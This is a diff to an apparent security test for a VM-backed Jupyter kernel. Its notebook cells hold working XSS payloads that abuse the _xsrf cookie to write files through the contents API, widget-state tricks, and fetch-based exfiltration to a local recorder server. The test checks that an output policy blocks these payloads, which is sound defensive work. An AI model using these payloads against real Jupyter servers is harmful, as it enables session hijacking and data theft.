@@ -191,106 +191,216 @@ def test_demo_notebook_and_panel_in_a_real_browser(lab, page):
 
 # ------------------------------------------------------------ a hostile guest
 
-#: Each attack, if it ran, would write pwned-<tag>.txt into the server's root
-#: through the contents API with the user's session, as the confirmed escape did.
-HOSTILE_CELLS = [
-    '''from IPython.display import display, HTML, Javascript, SVG, Markdown
+#: The attacks that, if they ran, would write pwned-<tag>.txt into the server's
+#: root through the contents API with the user's session (as the confirmed
+#: escape did); the commandlinker button would create untitled.txt.
+JS_VECTORS = {
+    "js": "a JavaScript output",
+    "script": "a <script> in HTML",
+    "onerror": "an <img onerror> in HTML",
+    "mdhtml": "raw HTML (<img onerror>) in Markdown",
+    "htmlview": "a Label widget shown by _view_name='HTMLView'",
+    "listvalue": "an HTML widget whose value is a one-element list",
+    "states": "update_states whose OUTER model_name (HTMLModel) the frontend uses, not the state's",
+}
+#: The attacks that, if they ran, would make the browser fetch
+#: http://127.0.0.1:<port>/<tag> from the test's own server: guest data out
+#: through the browser, from a VM with network='none'.
+FETCH_VECTORS = {
+    "mdimg": "a remote image in Markdown",
+    "htmlimg": "a remote <img> in HTML",
+    "imageurl": "an Image widget with format='url'",
+    "style": "an HTML widget whose style.background is url(...)",
+}
+
+_PRELUDE = '''from IPython.display import display, HTML, Javascript, SVG, Markdown
+import ipywidgets as w
+from traitlets import Unicode, List
+URL = %r
 def js(tag):
     return ("(async()=>{const x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
-            "await fetch('/api/contents/pwned-%s.txt',{method:'PUT',headers:{'X-XSRFToken':x,"
+            "await fetch('/api/contents/pwned-%%s.txt',{method:'PUT',headers:{'X-XSRFToken':x,"
             "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',"
-            "content:'pwned'})});(window.__pwned=window.__pwned||[]).push('%s')})()" % (tag, tag))''',
-    "display(Javascript(js('js')))",
-    "display(HTML('<script>' + js('script') + '</script><b>after the script</b>'))",
-    "display(HTML('<img src=\"x\" onerror=\"' + js('onerror') + '\">'))",
-    "display(HTML('<a href=\"javascript:' + js('href') + '\">click me (href)</a>'))",
-    "display(HTML('<button data-commandlinker-command=\"docmanager:new-untitled\" "
-    "data-commandlinker-args=\\'{\"path\": \"\", \"type\": \"file\", \"ext\": \".txt\"}\\'>"
-    "new file (commandlinker)</button>'))",
-    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"10\" onload=\"' + js('svg') + "
-    "'\"><rect width=\"40\" height=\"10\" fill=\"teal\"/></svg>'))",
-    "display(Markdown('[click me (md)](<javascript:' + js('md') + '>)'))",
-    '''import ipywidgets as w
-from traitlets import Unicode
-class Evil(w.DOMWidget):
+            "content:'pwned'})});(window.__pwned=window.__pwned||[]).push('%%s')})()" %% (tag, tag))
+def img(tag):
+    return '<img src="x" onerror="' + js(tag) + '">\''''
+
+# The control comm's answer (when the page reloads) makes this Label an
+# HTMLModel, whose default view is HTMLView: the frontend uses the OUTER model_name.
+_STATES = '''import ipywidgets.widgets.widget as ww
+placeholder = w.Label("states placeholder")
+display(placeholder)
+@classmethod
+def answer(cls, msg):
+    states = {k: {"model_name": x._model_name, "model_module": x._model_module,
+                  "model_module_version": x._model_module_version, "state": x.get_state()}
+              for k, x in ww._instances.items()}
+    st = states[placeholder.model_id]["state"]
+    st.pop("_model_name"); st.pop("_view_name")
+    st["value"] = img('states')
+    states[placeholder.model_id]["model_name"] = "HTMLModel"
+    states, paths, buffers = ww._remove_buffers(states)
+    cls._control_comm.send({"method": "update_states", "states": states, "buffer_paths": paths}, buffers=buffers)
+ww.Widget._handle_control_comm_msg = answer'''
+
+_EVIL = '''class Evil(w.DOMWidget):
     _model_module = Unicode("evil-widget-module").tag(sync=True)
     _view_module = Unicode("evil-widget-module").tag(sync=True)
     _model_name = Unicode("EvilModel").tag(sync=True)
     _view_name = Unicode("EvilView").tag(sync=True)
-display(Evil())''',
-    "import pandas as pd\npd.DataFrame({'a': [1, 2], 'b': ['x', 'y']})",
-    "print('all attacks sent')",
-]
+display(Evil())'''
 
 
-def _hostile_notebook(path: Path, kernel: str) -> None:
+def _hostile_cells(port: int) -> list[str]:
+    return [
+        _PRELUDE % f"http://127.0.0.1:{port}/",
+        "display(Javascript(js('js')))",
+        "display(HTML('<script>' + js('script') + '</script><b>after the script</b>'))",
+        "display(HTML(img('onerror')))",
+        "display(HTML('<button data-commandlinker-command=\"docmanager:new-untitled\" "
+        "data-commandlinker-args=\\'{\"path\": \"\", \"type\": \"file\", \"ext\": \".txt\"}\\'>"
+        "new file (commandlinker)</button>'))",
+        "display(Markdown('# md heading\\n\\n' + img('mdhtml')))",
+        "class HV(w.Label):\n    _view_name = Unicode('HTMLView').tag(sync=True)\n"
+        "display(HV(value=img('htmlview') + 'htmlview label'))",
+        "class LV(w.HTML):\n    value = List().tag(sync=True)\ndisplay(LV(value=[img('listvalue')]))",
+        _STATES,
+        "display(Markdown('![md image](' + URL + 'mdimg)'))",
+        "display(HTML('<img src=\"' + URL + 'htmlimg\">'))",
+        "display(w.Image(value=(URL + 'imageurl').encode(), format='url'))",
+        "display(w.HTML('styled', style={'background': 'url(' + URL + 'style)'}))",
+        # Not vectors: a widget module JupyterLab would not load itself (the
+        # note is checked), an SVG and a DataFrame (shown safely).
+        _EVIL,
+        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"10\" onload=\"' + js('svg') + "
+        "'\"><rect width=\"40\" height=\"10\" fill=\"teal\"/></svg>'))",
+        "import pandas as pd\npd.DataFrame({'a': [1, 2], 'b': ['x', 'y']})",
+        "print('all attacks sent')",
+    ]
+
+
+def _hostile_notebook(path: Path, kernel: str, port: int) -> None:
     import nbformat
 
     nb = nbformat.v4.new_notebook()
     nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
-    nb.cells = [nbformat.v4.new_code_cell(src) for src in HOSTILE_CELLS]
+    nb.cells = [nbformat.v4.new_code_cell(src) for src in _hostile_cells(port)]
     nbformat.write(nb, str(path))
 
 
-def _run_hostile(page, base: str, token: str, root: Path, name: str) -> None:
+@pytest.fixture
+def exfil_server():
+    """A server on 127.0.0.1 that records the paths the browser asks it for."""
+    import http.server
+    import threading
+
+    seen: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.append(self.path.strip("/"))
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_address[1], seen
+    server.shutdown()
+    server.server_close()
+
+
+def _run_hostile(page, base: str, token: str, name: str) -> None:
     from playwright.sync_api import expect
 
     # A workspace of its own: only this notebook is open, so "Run All" is its.
     workspace = name.replace(".", "-")
-    page.goto(f"{base}/lab/workspaces/{workspace}/tree/{name}?token={token}")
     active = ".jp-NotebookPanel:not(.lm-mod-hidden)"
-    page.wait_for_selector(f"{active} .jp-Notebook .jp-Cell", timeout=120_000)
-    page.wait_for_function(
-        f"() => [...document.querySelectorAll('{active} .jp-Toolbar-kernelName')]"
-        ".some(e => e.textContent.includes('SmolVM'))", timeout=120_000)
+
+    def open_notebook():
+        page.goto(f"{base}/lab/workspaces/{workspace}/tree/{name}?token={token}")
+        page.wait_for_selector(f"{active} .jp-Notebook .jp-Cell", timeout=120_000)
+        page.wait_for_function(
+            f"() => [...document.querySelectorAll('{active} .jp-Toolbar-kernelName')]"
+            ".some(e => e.textContent.includes('SmolVM'))", timeout=120_000)
+
+    open_notebook()
     page.locator(f"{active} .jp-Cell").first.click()
     page.get_by_role("menuitem", name="Run", exact=True).click()
     page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
-    outputs = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output")
+    outputs = page.locator(f"{active} .jp-OutputArea-output")
     expect(outputs.filter(has_text="all attacks sent")).to_have_count(1, timeout=300_000)
-    for text in ("click me (href)", "new file (commandlinker)", "click me (md)"):
-        target = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output").get_by_text(text)
-        if target.count():
-            target.first.click()
-    time.sleep(5)     # anything that runs has had the time to write its file
+    target = outputs.get_by_text("new file (commandlinker)")
+    if target.count():
+        target.first.click()
+    time.sleep(3)
+    # Save and reload: the widget manager asks the kernel for its widgets
+    # (request_states) and builds them from the answer (the "states" vector).
+    page.keyboard.press("Control+s")
+    page.wait_for_function("() => !document.querySelector('.jp-mod-dirty')", timeout=30_000)
+    open_notebook()
+    expect(outputs.filter(has_text="all attacks sent")).to_have_count(1, timeout=60_000)
+    time.sleep(8)     # anything that runs has had the time to write its file or fetch its URL
 
 
-@pytest.mark.timeout(900)
-def test_hostile_outputs_do_not_run_in_the_browser(lab, page):
+@pytest.mark.timeout(1200)
+def test_hostile_outputs_do_not_run_in_the_browser(lab, page, exfil_server):
     """Every way a cell in the VM could run code in the user's browser (and so
-    reach the Jupyter server as the user) is tried: none runs under the default
-    policy. The same notebook under output_policy='trusted' is the control:
-    there the attacks do write files, so this check can fail."""
+    reach the Jupyter server as the user), or make the browser fetch a URL
+    (guest data out of a VM that has no network), is tried: none works under
+    the default policy. The same notebook under output_policy='trusted' is the
+    control: there every one of them works, so this check can fail."""
+    from urllib.parse import urlsplit
+
     from playwright.sync_api import expect
 
     from smolvm_kernel import kernelspec
 
     base, token, root = lab
+    port, fetched = exfil_server
+    elsewhere: list[str] = []     # the network rule: the browser talks to 127.0.0.1 only
+
+    def on_request(request):
+        if not request.url.startswith(("data:", "blob:")) and urlsplit(request.url).hostname != "127.0.0.1":
+            elsewhere.append(request.url)
+
+    page.context.on("request", on_request)
     kernelspec.install("smolvm-trusted", prefix=os.environ["SMOLVM_TEST_PREFIX"], profile="scipy",
                        backend="qemu", output_policy="trusted")
-    _hostile_notebook(root / "hostile.ipynb", "smolvm-scipy")
-    _hostile_notebook(root / "hostile-trusted.ipynb", "smolvm-trusted")
+    _hostile_notebook(root / "hostile.ipynb", "smolvm-scipy", port)
+    _hostile_notebook(root / "hostile-trusted.ipynb", "smolvm-trusted", port)
+
+    def written() -> set[str]:
+        return {p.name for p in root.iterdir() if p.name.startswith(("pwned-", "untitled"))}
+
     try:
-        _run_hostile(page, base, token, root, "hostile.ipynb")
+        _run_hostile(page, base, token, "hostile.ipynb")
         shot(page, root, "6-hostile-safe")
-        written = sorted(p.name for p in root.iterdir() if p.name.startswith(("pwned-", "untitled")))
-        assert written == [], f"guest output ran in the browser: {written}"
+        ran = sorted(written()) + [f"fetched /{path}" for path in fetched]
+        assert ran == [], f"guest output ran in the browser or fetched through it: {ran}"
         assert page.evaluate("() => window.__pwned === undefined")
         outputs = page.locator(".jp-NotebookPanel:not(.lm-mod-hidden) .jp-OutputArea-output")
         expect(outputs.filter(has_text="blocked application/javascript")).to_have_count(1)
         expect(outputs.filter(has_text="evil-widget-module")).to_have_count(1)
-        expect(outputs.filter(has_text="after the script")).to_have_count(1)       # safe HTML still shows
+        expect(outputs.filter(has_text='format="url"')).to_have_count(1)          # the Image widget
+        expect(outputs.filter(has_text="whose value is not a string")).to_have_count(1)   # the list value
+        expect(outputs.filter(has_text="after the script")).to_have_count(1)      # safe HTML still shows
+        expect(outputs.locator("h1").filter(has_text="md heading")).to_have_count(1)   # and Markdown
+        expect(outputs.filter(has_text="htmlview label")).to_have_count(1)        # and the label's text
         expect(outputs.locator("table td").filter(has_text="y")).to_have_count(1)  # and a DataFrame
         expect(outputs.locator("img[src^='data:image/svg+xml']")).to_have_count(1)  # the SVG, as an image
 
-        _run_hostile(page, base, token, root, "hostile-trusted.ipynb")
+        _run_hostile(page, base, token, "hostile-trusted.ipynb")
         shot(page, root, "7-hostile-trusted-control")
-        written = {p.name for p in root.iterdir() if p.name.startswith(("pwned-", "untitled"))}
-        # JupyterLab runs these when the policy lets them through (the escape
-        # this test guards against); the href, SVG and Markdown vectors are
-        # refused by JupyterLab itself there, and by the policy here.
-        assert {"pwned-js.txt", "pwned-script.txt", "pwned-onerror.txt", "untitled.txt"} <= written, \
-            f"the control did not show the attacks working: {sorted(written)}"
+        # Every vector works when the policy lets it through (the escape this
+        # test guards against): the control set is exact, so each one counts.
+        assert written() == {f"pwned-{tag}.txt" for tag in JS_VECTORS} | {"untitled.txt"}, \
+            f"the control did not show exactly the JS attacks working: {sorted(written())}"
+        assert set(fetched) == set(FETCH_VECTORS), \
+            f"the control did not show exactly the fetches working: {sorted(set(fetched))}"
+        assert elsewhere == [], f"the browser reached beyond 127.0.0.1: {elsewhere}"
     except BaseException:
         shot(page, root, "failure-hostile")
         print(f"screenshots and jupyterlab.log in {root}")
